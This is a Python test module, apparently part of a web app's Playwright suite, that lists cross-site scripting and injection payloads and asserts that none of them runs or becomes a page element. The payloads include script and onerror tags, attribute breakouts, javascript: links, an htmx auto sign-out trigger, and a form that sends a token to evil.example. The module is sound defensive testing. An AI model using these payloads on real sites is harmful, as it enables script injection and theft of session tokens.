"""Text that would do something if a page took it for more than text."""

from __future__ import annotations

from typing import Final

from playwright.sync_api import Page

__all__ = ["HOSTILE", "stays_text"]

HOSTILE: Final = {
    "script": "<script>window.pwned=1</script>",
    "image": '<img src=x onerror="window.pwned=1">',
    "attribute": '" autofocus onfocus=window.pwned=1 x="',
    "quote": "' onmouseover='window.pwned=1",
    "close": "</textarea></title></script><svg onload=window.pwned=1>",
    "link": "javascript:window.pwned=1",
    "template": "{{ 7*7 }}{% raw %}${7*7}",
    "entity": "&lt;img src=x onerror=window.pwned=1&gt;&#60;b&#62;",
    "htmx": '<div hx-get="/room/sign-out" hx-trigger="load" data-hx-on:load="window.pwned=1">',
    "frame": '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    "form": '</form><form action="https://evil.example/"><input name=form_token>',
    "style": "</style><style>body{display:none}</style>",
    "markdown": '[x](javascript:window.pwned=1) ![x](x" onerror="window.pwned=1)',
    "direction": "\u202egpj.exe",
    "letters": "Zoë 李 🌿 \u00ad\u200b",
}
"""By what each tries. Some are not taken by the API at all (control characters, directions); what is taken stays
text."""


def stays_text(page: Page) -> None:
    """See to it that nothing hostile has run on `page`, or become an element of it."""
    assert page.evaluate("window.pwned") is None, "something ran"
    found = page.evaluate(
        """() => [...document.querySelectorAll(
            '[onerror], [onload], [onfocus], [onmouseover], [hx-trigger=load], iframe[srcdoc*=pwned],'
            + ' [href^="javascript:"], [src^="javascript:"], form[action*="evil.example"], script:not([src]), style')]
            .map((each) => each.outerHTML.slice(0, 200))"""
    )
    assert found == []
